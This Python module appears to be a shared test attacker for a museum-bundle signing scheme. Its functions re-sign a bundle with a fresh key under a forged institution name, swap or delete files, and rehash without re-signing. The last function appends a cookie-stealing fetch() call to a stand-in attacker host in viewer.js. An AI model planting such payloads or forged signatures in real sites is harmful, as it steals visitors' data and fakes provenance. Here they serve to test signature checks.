"""The attacker of issue 10: what someone with write access to a bundle's web host can do.

Every function takes a bundle folder and changes it in place, the way an attacker would, using only
what is in the bundle (no private key of the museum). Free of pytest so that Python and node test
drivers (tests/exporters/test_trust_*.py, tests/browser/test_trust_badges.py) share one attacker.
"""
from __future__ import annotations

import base64
import hashlib
import json
from pathlib import Path

from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

UNLISTED = ("manifest.json", "manifest.sig", "data/manifest.js")
KEY_FILES = ("manifest.json", "manifest.sig", "data/manifest.js", "publisher-key.json")


def _fingerprint(raw: bytes) -> str:
    return "SHA256:" + hashlib.sha256(raw).hexdigest()


def _rehash(bundle: Path, manifest: dict) -> str:
    """Recompute every file entry of ``manifest`` from the files now in ``bundle``; returns the new manifest.json text."""
    files = []
    for path in sorted(bundle.rglob("*")):
        rel = path.relative_to(bundle).as_posix()
        if path.is_file() and rel not in UNLISTED:
            data = path.read_bytes()
            files.append({"path": rel, "size": len(data), "sha256": hashlib.sha256(data).hexdigest()})
    manifest["files"] = files
    return json.dumps(manifest, ensure_ascii=False, indent=1) + "\n"


def resign_with_new_key(bundle: Path, institution: str = "Trusted Museum") -> str:
    """The re-signing attack: edit exhibit.json, claim ``institution``, re-hash, re-sign with a fresh key.

    Replaces publisher-key.json (no rotations), manifest.json, manifest.sig and data/manifest.js, so the
    bundle is self-consistent. Returns the attacker key's fingerprint ``SHA256:<hex>``.
    """
    bundle = Path(bundle)
    exhibit_path = bundle / "exhibit.json"
    exhibit = json.loads(exhibit_path.read_text("utf-8"))
    exhibit["institution"] = institution
    if isinstance(exhibit.get("title"), dict):
        exhibit["title"] = {lang: "Forged: " + str(text) for lang, text in exhibit["title"].items()}
    exhibit_text = json.dumps(exhibit, ensure_ascii=False, indent=1) + "\n"
    exhibit_path.write_text(exhibit_text, encoding="utf-8")
    if (bundle / "data" / "exhibit.js").is_file():  # a thorough attacker keeps the file:// copy in step
        (bundle / "data" / "exhibit.js").write_text(
            "window.VITRINE_EXHIBIT_JSON = " + json.dumps(exhibit_text, ensure_ascii=True) + ";\n"
            "window.VITRINE_EXHIBIT = JSON.parse(window.VITRINE_EXHIBIT_JSON);\n", encoding="utf-8")
    key = Ed25519PrivateKey.generate()
    raw = key.public_key().public_bytes(serialization.Encoding.Raw, serialization.PublicFormat.Raw)
    public = {"algorithm": "Ed25519", "public_key": base64.b64encode(raw).decode("ascii"),
              "fingerprint": _fingerprint(raw), "rotations": []}
    (bundle / "publisher-key.json").write_text(json.dumps(public, indent=1) + "\n", encoding="utf-8")
    try:
        manifest = json.loads((bundle / "manifest.json").read_text("utf-8"))
    except FileNotFoundError:
        manifest = {"format": "vitrine-manifest", "version": 1, "generator": "attacker", "created": ""}
    manifest["institution"] = institution
    text = _rehash(bundle, manifest)
    signature = base64.b64encode(key.sign(text.encode("utf-8"))).decode("ascii")
    (bundle / "manifest.json").write_text(text, encoding="utf-8")
    (bundle / "manifest.sig").write_text(signature + "\n", encoding="ascii")
    script = {"manifest_json": text, "signature": signature, "public_key": public["public_key"],
              "fingerprint": public["fingerprint"], "rotations": []}
    (bundle / "data").mkdir(exist_ok=True)
    (bundle / "data" / "manifest.js").write_text(
        "window.VITRINE_MANIFEST = " + json.dumps(script, ensure_ascii=False) + ";\n", encoding="utf-8")
    return public["fingerprint"]


def swap_file(bundle: Path, rel: str, data: bytes) -> str:
    """Replace (or add) the file ``rel`` with ``data``, touching nothing else; returns ``rel``."""
    path = Path(bundle) / rel
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data)
    return rel


def rehash_without_resign(bundle: Path, rel: str, data: bytes) -> str:
    """Swap ``rel`` and recompute manifest.json's hashes (and data/manifest.js's copy) but keep the
    old signature, which no longer matches; returns ``rel``."""
    bundle = Path(bundle)
    swap_file(bundle, rel, data)
    manifest = json.loads((bundle / "manifest.json").read_text("utf-8"))
    text = _rehash(bundle, manifest)
    (bundle / "manifest.json").write_text(text, encoding="utf-8")
    script_path = bundle / "data" / "manifest.js"
    if script_path.is_file():
        prefix = "window.VITRINE_MANIFEST = "
        body = script_path.read_text("utf-8").strip()
        script = json.loads(body[len(prefix):-1])
        script["manifest_json"] = text
        script_path.write_text(prefix + json.dumps(script, ensure_ascii=False) + ";\n", encoding="utf-8")
    return rel


def delete_manifest(bundle: Path) -> list[str]:
    """Delete manifest.json, manifest.sig, data/manifest.js and publisher-key.json; returns those deleted."""
    gone = []
    for rel in KEY_FILES:
        path = Path(bundle) / rel
        if path.exists():
            path.unlink()
            gone.append(rel)
    return gone


def swap_viewer_js(bundle: Path) -> str:
    """Append a payload to viewer.js that would exfiltrate visitors' data; returns ``viewer.js``."""
    path = Path(bundle) / "viewer.js"
    payload = b"\n;fetch('https://attacker.invalid/x?c='+encodeURIComponent(document.cookie));\n"
    return swap_file(bundle, "viewer.js", path.read_bytes() + payload)
